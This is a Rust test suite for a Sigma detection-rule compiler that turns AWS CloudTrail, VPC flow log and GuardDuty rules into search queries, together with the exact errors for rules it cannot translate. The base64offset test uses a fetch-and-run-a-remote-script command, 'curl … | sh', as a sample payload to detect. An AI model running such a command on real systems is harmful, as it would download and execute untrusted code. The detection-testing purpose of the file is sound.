//! Rules compiled to the exact query AST, and the exact errors for rules that cannot be
//! translated exactly. The rules are written here from the CloudTrail documentation.

use tripline_dsl::{Bound, QueryAst, Value};
use tripline_sigma::{compile, compile_detection, translate_regex, SigmaError, SigmaRule, Target};

fn term(field: &str, value: impl Into<Value>) -> QueryAst {
    QueryAst::Term { field: field.into(), value: value.into(), case_insensitive: false }
}
fn regex(field: &str, pattern: &str) -> QueryAst {
    QueryAst::Regex { field: field.into(), pattern: pattern.into(), case_insensitive: false }
}
fn wildcard(field: &str, pattern: &str) -> QueryAst {
    QueryAst::Wildcard { field: field.into(), pattern: pattern.into(), case_insensitive: false }
}
/// A term matched in any (ASCII) case: what a Sigma value without `|cased` is.
fn term_ci(field: &str, value: &str) -> QueryAst {
    QueryAst::Term { field: field.into(), value: value.into(), case_insensitive: true }
}
fn wildcard_ci(field: &str, pattern: &str) -> QueryAst {
    QueryAst::Wildcard { field: field.into(), pattern: pattern.into(), case_insensitive: true }
}
fn all(q: Vec<QueryAst>) -> QueryAst {
    QueryAst::Bool { must: q, should: vec![], must_not: vec![] }
}
fn any(q: Vec<QueryAst>) -> QueryAst {
    QueryAst::Bool { must: vec![], should: q, must_not: vec![] }
}
fn not(q: QueryAst) -> QueryAst {
    QueryAst::negate(q)
}
fn cloudtrail(q: QueryAst) -> QueryAst {
    all(vec![term("source", "cloudtrail"), q])
}

/// A CloudTrail rule around a detection block (indented four spaces, starting on line 4).
fn rule(detection: &str) -> String {
    format!("title: test rule\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n{detection}")
}

fn compiled(detection: &str) -> QueryAst {
    let r = SigmaRule::parse("rule.yml", &rule(detection)).unwrap();
    compile(&r).unwrap()
}

fn refused(detection: &str) -> SigmaError {
    let r = SigmaRule::parse("rule.yml", &rule(detection)).unwrap();
    compile(&r).unwrap_err()
}

fn err(line: usize, column: usize, construct: &str, reason: &str) -> SigmaError {
    SigmaError { rule: "rule.yml".into(), line, column, construct: construct.into(), reason: reason.into() }
}

#[test]
fn create_user_by_iam() {
    let q = compiled(
        "    selection:\n        eventSource: iam.amazonaws.com\n        eventName: CreateUser\n    condition: selection\n",
    );
    assert_eq!(
        q,
        cloudtrail(all(vec![
            term_ci("details.eventsource", "iam.amazonaws.com"),
            term_ci("details.eventname", "CreateUser"),
        ]))
    );
}

#[test]
fn cased_values_are_terms_and_caseless_values_stay_terms() {
    let q = compiled(
        "    selection:\n        eventName|cased: CreateUser\n        recipientAccountId: 123456789012\n        \
         userAgent|cased|startswith: 'aws-cli/'\n    condition: selection\n",
    );
    assert_eq!(
        q,
        cloudtrail(all(vec![
            term("details.eventname", "CreateUser"),
            term("details.recipientaccountid", "123456789012"),
            wildcard("details.useragent", "aws-cli/*"),
        ]))
    );
}

#[test]
fn contains_all_is_an_and_of_case_folded_patterns() {
    let q = compiled(
        "    selection:\n        eventName: PutUserPolicy\n        errorMessage|contains|all:\n            - 'Access'\n            \
         - '*'\n    condition: selection\n",
    );
    assert_eq!(
        q,
        cloudtrail(all(vec![
            term_ci("details.eventname", "PutUserPolicy"),
            // `*` alone is a wildcard: contains '*' is anything at all (present).
            all(vec![
                wildcard_ci("details.errormessage", "*Access*"),
                wildcard("details.errormessage", "***")
            ]),
        ]))
    );
}

#[test]
fn one_of_selections_and_not_filter() {
    let q = compiled(
        "    selection_user:\n        eventName:\n            - CreateAccessKey\n            - CreateLoginProfile\n    \
         selection_role:\n        eventName|cased: AttachRolePolicy\n        requestParameters.policyArn|cased|endswith: /AdministratorAccess\n    \
         filter:\n        userIdentity.type|cased: AWSService\n    \
         condition: 1 of selection_* and not filter\n",
    );
    assert_eq!(
        q,
        cloudtrail(all(vec![
            any(vec![
                any(vec![
                    // Case-insensitive terms are not merged into one `Terms` (which has no flag).
                    term_ci("details.eventname", "CreateAccessKey"),
                    term_ci("details.eventname", "CreateLoginProfile"),
                ]),
                all(vec![
                    term("details.eventname", "AttachRolePolicy"),
                    wildcard("details.requestparameters_policyarn", "*/AdministratorAccess"),
                ]),
            ]),
            not(term("details.useridentity.type", "AWSService")),
        ]))
    );
}

#[test]
fn conditions_precedence_them_and_lists() {
    let d = "    a:\n        errorCode|cased: A\n    b:\n        errorCode|cased: B\n    _c:\n        errorCode|cased: C\n";
    let (a, b, c) =
        (term("details.errorcode", "A"), term("details.errorcode", "B"), term("details.errorcode", "C"));
    let cases = [
        ("a or b and not _c", any(vec![a.clone(), all(vec![b.clone(), not(c.clone())])])),
        ("(a or b) and _c", all(vec![any(vec![a.clone(), b.clone()]), c.clone()])),
        ("1 of them", any(vec![a.clone(), b.clone()])),
        ("all of them", all(vec![a.clone(), b.clone()])),
        ("all of _*", c.clone()),
        ("not not a", not(not(a.clone()))),
    ];
    for (cond, want) in cases {
        assert_eq!(compiled(&format!("{d}    condition: {cond}\n")), cloudtrail(want), "{cond}");
    }
    // A list of conditions: any of them.
    assert_eq!(
        compiled(&format!("{d}    condition:\n        - a\n        - b\n")),
        cloudtrail(any(vec![a, b]))
    );
}

#[test]
fn values_null_exists_cidr_and_the_split_source_ip() {
    let q = compiled(
        "    selection:\n        errorCode: null\n        userIdentity.invokedBy|exists: false\n        readOnly: 'False'\n        \
         sourceIPAddress|cidr: 10.0.0.0/8\n        userAgent: ['aws-cli', '123']\n    \
         by_ip:\n        sourceIPAddress: ['203.0.113.9', 'AWS Internal', '2001:DB8::1']\n    \
         by_host:\n        sourceIPAddress|endswith: .amazonaws.com\n    \
         present:\n        sourceIPAddress|exists: true\n    condition: selection or by_ip or by_host or present\n",
    );
    assert_eq!(
        q,
        cloudtrail(any(vec![
            all(vec![
                not(QueryAst::Exists { field: "details.errorcode".into() }),
                not(QueryAst::Exists { field: "details.useridentity.invokedby".into() }),
                term("details.readonly", false),
                QueryAst::Subnet {
                    field: "details.sourceipaddress".into(),
                    net: "10.0.0.0/8".parse().unwrap()
                },
                any(vec![term_ci("details.useragent", "aws-cli"), term("details.useragent", "123")]),
            ]),
            any(vec![
                term("details.sourceipaddress", "203.0.113.9"),
                term_ci("details.sourcehostname", "AWS Internal"),
                term("details.sourceipaddress", "2001:db8::1"),
            ]),
            wildcard_ci("details.sourcehostname", "*.amazonaws.com"),
            any(vec![
                QueryAst::Exists { field: "details.sourceipaddress".into() },
                QueryAst::Exists { field: "details.sourcehostname".into() },
            ]),
        ]))
    );
}

#[test]
fn wildcards_and_escapes() {
    let q = compiled(
        "    selection:\n        eventName|cased:\n            - 'Delete*'\n            - 'Get?'\n            - 'a\\*b'\n            \
         - 'c\\\\*'\n            - 'd\\e'\n    condition: selection\n",
    );
    assert_eq!(
        q,
        cloudtrail(any(vec![
            wildcard("details.eventname", "Delete*"),
            wildcard("details.eventname", "Get?"),
            term("details.eventname", "a*b"),
            // `\\*`: a backslash, then the wildcard.
            wildcard("details.eventname", "c\\\\*"),
            term("details.eventname", "d\\e"),
        ]))
    );
}

#[test]
fn numbers_match_as_written() {
    let q = compiled(
        "    s:\n        recipientAccountId: 012345678901\n        eventVersion: [1.10, 1.5, 7]\n    condition: s\n",
    );
    assert_eq!(
        q,
        cloudtrail(all(vec![
            term("details.recipientaccountid", "012345678901"),
            QueryAst::Terms {
                field: "details.eventversion".into(),
                values: vec!["1.10".into(), "1.5".into(), "7".into()]
            },
        ]))
    );
}

#[test]
fn multiple_plain_values_become_one_terms_node() {
    let q = compiled("    s:\n        awsRegion: ['1', '2']\n    condition: s\n");
    assert_eq!(
        q,
        cloudtrail(QueryAst::Terms {
            field: "details.awsregion".into(),
            values: vec!["1".into(), "2".into()]
        })
    );
}

#[test]
fn regular_expressions() {
    let q = compiled("    s:\n        userAgent|re: '^aws-cli/[0-9]+\\.'\n        errorMessage|re|i: 'denied$'\n    condition: s\n");
    assert_eq!(
        q,
        cloudtrail(all(vec![
            regex("details.useragent", "aws\\-cli\\/[0-9]+\\..*"),
            regex("details.errormessage", ".*[dD][eE][nN][iI][eE][dD]\n?"),
        ]))
    );
    assert_eq!(translate_regex("a.b", false, false, false).unwrap(), ".*a[^\n]b.*");
    assert_eq!(translate_regex("a.b", false, false, true).unwrap(), ".*a.b.*");
    assert_eq!(translate_regex("^x$", false, true, false).unwrap(), "(.*\n)?x(\n.*)?");
    assert_eq!(
        translate_regex("[a-c_]{2,}(?:x|y)", true, false, false).unwrap(),
        ".*[a-cA-C\\_]{2,}([xX]|[yY]).*"
    );
    assert_eq!(translate_regex(r#"<"&~#@>"#, false, false, false).unwrap(), r#".*\<\"\&\~\#\@\>.*"#);
    assert_eq!(translate_regex("[<>-]", false, false, false).unwrap(), ".*[<>\\-].*");
    for (re, what) in [
        ("a\\bc", "the escape \\b"),
        ("(?=x)", "a (?…) group other than (?:…)"),
        ("a^b", "an anchor (^ or $) inside the expression"),
        ("a++", "a possessive quantifier"),
        ("[[:alpha:]]", "a POSIX [:class:]"),
        ("[\\d]", "the escape \\d inside a class"),
    ] {
        assert_eq!(
            translate_regex(re, false, false, false).unwrap_err(),
            format!("regular expression {re:?}: {what} is not supported"),
        );
    }
}

#[test]
fn numeric_comparisons_need_a_numeric_field() {
    let r = SigmaRule::parse(
        "flows.yml",
        "title: t\nlogsource: {product: x}\ndetection:\n    s:\n        bytes|gte: 5000\n        port|lt: 1024\n    condition: s\n",
    )
    .unwrap();
    let map = |f: &str| Ok(Target::Number(format!("details.{f}")));
    assert_eq!(
        compile_detection(&r, &map).unwrap(),
        all(vec![
            QueryAst::Range {
                field: "details.bytes".into(),
                lower: Some(Bound::inclusive(5000)),
                upper: None
            },
            QueryAst::Range {
                field: "details.port".into(),
                lower: None,
                upper: Some(Bound::exclusive(1024))
            },
        ])
    );
}

#[test]
fn what_cannot_be_translated_exactly_is_refused() {
    let cases = [
        (
            "    s:\n        eventName|base64offset: x\n    condition: s\n",
            err(
                5,
                9,
                "detection.s.eventName|base64offset",
                "base64offset finds the value inside a longer text: use base64offset|contains",
            ),
        ),
        (
            "    s:\n        eventName|sounds_like: x\n    condition: s\n",
            err(5, 9, "detection.s.eventName|sounds_like", "unknown modifier \"sounds_like\""),
        ),
        (
            "    s:\n        eventName|expand: '%admins%'\n    condition: s\n",
            err(5, 9, "detection.s.eventName|expand", "the expand modifier is not supported yet"),
        ),
        (
            "    s:\n        - evil\n    condition: s\n",
            err(
                5,
                11,
                "detection.s",
                "keyword searches (values without a field) are not supported: Tripline matches fields, and its \
                 one text field, summary, is not the whole event",
            ),
        ),
        (
            "    s:\n        Image: x\n    condition: s\n",
            err(
                5,
                9,
                "detection.s.Image",
                "field \"Image\": no CloudTrail field \"Image\" is mapped (field names are case-sensitive, as \
                 CloudTrail writes them)",
            ),
        ),
        (
            "    s:\n        eventName|contains|all: x\n    condition: s\n",
            err(
                5,
                9,
                "detection.s.eventName|contains|all",
                "all needs a list of at least two values (the specification forbids it on one)",
            ),
        ),
        (
            "    s:\n        eventName|contains|startswith: x\n    condition: s\n",
            err(5, 9, "detection.s.eventName|contains|startswith", "startswith cannot be combined with another matching modifier"),
        ),
        (
            "    s:\n        sourceIPAddress|startswith: '10.'\n    condition: s\n",
            err(
                5,
                37,
                "detection.s.sourceIPAddress|startswith",
                "sourceIPAddress: a pattern that could match an IP address (IPs are stored as addresses, not \
                 text): use |cidr",
            ),
        ),
        (
            "    s:\n        eventName|gt: 5\n    condition: s\n",
            err(
                5,
                23,
                "detection.s.eventName|gt",
                "this field is stored as text or boolean: a numeric comparison on it would compare text, not numbers",
            ),
        ),
        (
            "    s:\n        errorCode|cidr: 10.0.0.0/8\n    condition: s\n",
            err(5, 25, "detection.s.errorCode|cidr", "cidr works on IP address fields only (sourceIPAddress)"),
        ),
        (
            "    s:\n        userAgent|re: 'a\\bc'\n    condition: s\n",
            err(5, 23, "detection.s.userAgent|re", "regular expression \"a\\\\bc\": the escape \\b is not supported"),
        ),
        (
            "    s:\n        eventName: x\n    condition: s and selection\n",
            err(6, 16, "condition", "\"s and selection\": no search identifier is named \"selection\""),
        ),
        (
            "    s:\n        eventName: x\n    condition: 1 of filter*\n",
            err(6, 16, "condition", "\"1 of filter*\": \"filter*\" names no search identifier"),
        ),
        (
            "    s:\n        eventName: x\n    condition: s and (s or\n",
            err(6, 27, "condition", "\"s and (s or\": the condition ends where a search identifier or ( was expected"),
        ),
        (
            "    s:\n        eventName: x\n    condition: 2 of s*\n",
            err(6, 16, "condition", "\"2 of s*\": \"2\" of: only \"1 of\" and \"all of\" are supported"),
        ),
        (
            "    s:\n        eventName: x\n    condition: s s\n",
            err(6, 18, "condition", "\"s s\": unexpected text after a complete condition (a missing and/or?)"),
        ),
    ];
    for (detection, want) in cases {
        assert_eq!(refused(detection), want, "{detection}");
    }
}

#[test]
fn other_logsources_are_refused_with_the_supported_ones_named() {
    let r = SigmaRule::parse(
        "gd.yml",
        "title: t\nlogsource:\n    product: aws\n    service: route53\ndetection: {s: {a: 1}, condition: s}\n",
    )
    .unwrap();
    assert_eq!(
        compile(&r).unwrap_err(),
        SigmaError {
            rule: "gd.yml".into(),
            line: 3,
            column: 5,
            construct: "logsource".into(),
            reason: "{product: aws, service: route53} is not supported: product: aws with service: cloudtrail, vpcflowlogs or \
                     guardduty (and no category)"
                .into(),
        }
    );
}

#[test]
fn deep_conditions_are_refused_not_overflowed() {
    let deep = format!("{}s{}", "(".repeat(100), ")".repeat(100));
    let e = refused(&format!("    s:\n        eventName: x\n    condition: {deep}\n"));
    assert_eq!((e.construct.as_str(), e.line), ("condition", 6));
    assert!(e.reason.ends_with("nested deeper than 32 levels"), "{e}");
}

#[test]
fn non_ascii_letters_keep_the_folded_regex() {
    // OpenSearch's case_insensitive folds ASCII letters only: a value with another cased letter
    // is spelled with case classes instead, and a value whose other letters have no simple
    // case forms (ß) takes the flag.
    let q = compiled(
        "    selection:\n        userIdentity.userName: 'José'\n        userAgent|contains: 'Straße'\n        \
         errorCode|cased: 'Ém'\n    condition: selection\n",
    );
    let user = QueryAst::Regex {
        field: "details.useridentity.username".into(),
        pattern: "[jJ][oO][sS][éÉ]".into(),
        case_insensitive: false,
    };
    assert_eq!(
        q,
        cloudtrail(all(vec![
            user,
            wildcard_ci("details.useragent", "*Straße*"),
            term("details.errorcode", "Ém"),
        ]))
    );
}

#[test]
fn subtree_members_are_pairs_with_an_exact_path() {
    let f = "details.requestparameters_pairs";
    let q = compiled(
        "    selection:\n        eventName|cased: AuthorizeSecurityGroupIngress\n        \
         requestParameters.ipPermissions.items.ipRanges.items.cidrIp|cased: 0.0.0.0/0\n        \
         requestParameters.ipPermissions.items.fromPort: 22\n        \
         requestParameters.policyDocument|cased|contains: '\"Principal\":\"\\*\"'\n        \
         responseElements.credentials.accessKeyId|startswith: ASIA\n        \
         additionalEventData.x=y: v\n        \
         serviceEventDetails.a*b|cased: c\n    \
         present:\n        requestParameters.ipPermissions|exists: true\n    \
         absent:\n        requestParameters.dryRun: null\n    \
         by_re:\n        requestParameters.description|re: '^adm'\n    \
         condition: selection and present and absent and by_re\n",
    );
    let exists = |path: &str| any(vec![wildcard(f, &format!("{path}=*")), wildcard(f, &format!("{path}.*"))]);
    assert_eq!(
        q,
        cloudtrail(all(vec![
            all(vec![
                term("details.eventname", "AuthorizeSecurityGroupIngress"),
                term(f, "ipPermissions.items.ipRanges.items.cidrIp=0.0.0.0/0"),
                // A number is matched as written; no letters, so no folding.
                term(f, "ipPermissions.items.fromPort=22"),
                wildcard(f, "policyDocument=*\"Principal\":\"\\*\"*"),
                // Case-insensitive: the path literal, only the value folded.
                regex("details.responseelements_pairs", "credentials\\.accessKeyId=[aA][sS][iI][aA].*"),
                // A key's `=` is escaped as the normalizer escapes it.
                regex("details.additionaleventdata_pairs", "x\\\\\\=y=[vV]"),
                // Wildcard characters in a key are literal.
                term("details.serviceeventdetails_pairs", "a*b=c"),
            ]),
            exists("ipPermissions"),
            not(exists("dryRun")),
            regex(f, "description=(adm.*)"),
        ]))
    );
    // The flat members keep their fields.
    assert_eq!(
        compiled("    s:\n        requestParameters.bucketName|cased: b\n    condition: s\n"),
        cloudtrail(term("details.requestparameters_bucketname", "b"))
    );
    // A wildcard value on a key with a wildcard character: the key's is escaped.
    assert_eq!(
        compiled("    s:\n        serviceEventDetails.a*b|cased|endswith: c\n    condition: s\n"),
        cloudtrail(wildcard("details.serviceeventdetails_pairs", "a\\*b=*c"))
    );
    for (detection, needle) in [
        ("requestParameters.ipPermissions.items.ipRanges.items.cidrIp|cidr: 0.0.0.0/0", "cidr on members of"),
        ("requestParameters.ipPermissions.items.fromPort|gt: 20", "lt, lte, gt and gte on members of"),
        ("requestParameters..x: v", "empty path segment"),
    ] {
        let e = refused(&format!("    s:\n        {detection}\n    condition: s\n"));
        assert!(e.reason.contains(needle), "{detection}: {}", e.reason);
    }
}

#[test]
fn a_whole_subtree_is_matched_as_its_json_text() {
    let q = compiled("    sel:\n        requestParameters|contains: Suspended\n    condition: sel\n");
    assert_eq!(
        q,
        cloudtrail(QueryAst::Wildcard {
            field: "details.requestparameters".into(),
            pattern: "*Suspended*".into(),
            case_insensitive: true
        })
    );
}

#[test]
fn vpc_flow_logs_and_guardduty_are_tripline_log_sources() {
    let rule = |service: &str, detection: &str| {
        let t = format!("title: t\nlogsource: {{product: aws, service: {service}}}\ndetection:\n{detection}");
        compile(&SigmaRule::parse("r.yml", &t).unwrap())
    };
    let q = rule(
        "vpcflowlogs",
        "    s:\n        srcaddr|cidr: 10.0.0.0/8\n        dstport: 22\n    condition: s\n",
    )
    .unwrap();
    assert_eq!(
        q,
        all(vec![
            QueryAst::Term {
                field: "source".into(),
                value: Value::from("vpc_flow"),
                case_insensitive: false
            },
            all(vec![
                QueryAst::Subnet {
                    field: "details.sourceipaddress".into(),
                    net: "10.0.0.0/8".parse().unwrap()
                },
                QueryAst::Term {
                    field: "details.destinationport".into(),
                    value: Value::Int(22),
                    case_insensitive: false
                },
            ]),
        ])
    );
    let err = rule("vpcflowlogs", "    s:\n        dstaddr|contains: '10.'\n    condition: s\n")
        .unwrap_err()
        .to_string();
    assert!(err.contains("an IP address field: give an address, or a network with |cidr"), "{err}");
    let err = rule("vpcflowlogs", "    s:\n        start: 1\n    condition: s\n").unwrap_err().to_string();
    assert!(err.contains("the rule's window is its time condition"), "{err}");
    let q = rule("guardduty", "    s:\n        severity|gte: 7\n    condition: s\n").unwrap();
    assert!(format!("{q:?}").contains("details.severity") && format!("{q:?}").contains("guardduty"), "{q:?}");
    let err =
        rule("guardduty", "    s:\n        service.evidence: x\n    condition: s\n").unwrap_err().to_string();
    assert!(err.contains("no GuardDuty finding field \"service.evidence\""), "{err}");
    let err = rule("route53", "    s:\n        a: x\n    condition: s\n").unwrap_err().to_string();
    assert!(err.contains("service: cloudtrail, vpcflowlogs or guardduty"), "{err}");
}

/// The base64 texts a compiled clause searches for.
fn patterns(q: &QueryAst, out: &mut Vec<String>) {
    match q {
        QueryAst::Wildcard { pattern, case_insensitive, .. } => {
            assert!(!case_insensitive, "base64 is matched exactly");
            out.push(pattern.trim_matches('*').to_string())
        }
        QueryAst::Term { value: Value::Str(s), case_insensitive, .. } => {
            assert!(!case_insensitive, "base64 is matched exactly");
            out.push(s.clone())
        }
        QueryAst::Bool { must, should, must_not } => {
            must.iter().chain(should).chain(must_not).for_each(|c| patterns(c, out))
        }
        _ => {}
    }
}

#[test]
fn base64offset_finds_the_value_at_any_offset_of_a_longer_encoded_text() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s.as_bytes());
    for value in ["ping", "curl http://198.51.100.7/x.sh | sh", "ab", "whoami!"] {
        let q = compiled(&format!(
            "    s:\n        userAgent|base64offset|contains: '{value}'\n    condition: s\n"
        ));
        let mut found = Vec::new();
        patterns(&q, &mut found);
        found.retain(|p| p != "cloudtrail");
        assert_eq!(found.len(), 3, "{value}: {found:?}");
        for prefix in ["", "a", "ab", "abc", "abcd"] {
            for suffix in ["", "x", "xy", "xyz"] {
                let text = b64(&format!("{prefix}{value}{suffix}"));
                assert!(
                    found.iter().any(|p| text.contains(p.as_str())),
                    "{value:?} in {text} ({prefix:?}, {suffix:?}): {found:?}"
                );
            }
        }
    }
    let q = compiled("    s:\n        userAgent|base64: ping\n    condition: s\n");
    assert_eq!(
        q,
        cloudtrail(QueryAst::Term {
            field: "details.useragent".into(),
            value: Value::from("cGluZw=="),
            case_insensitive: false
        })
    );
}
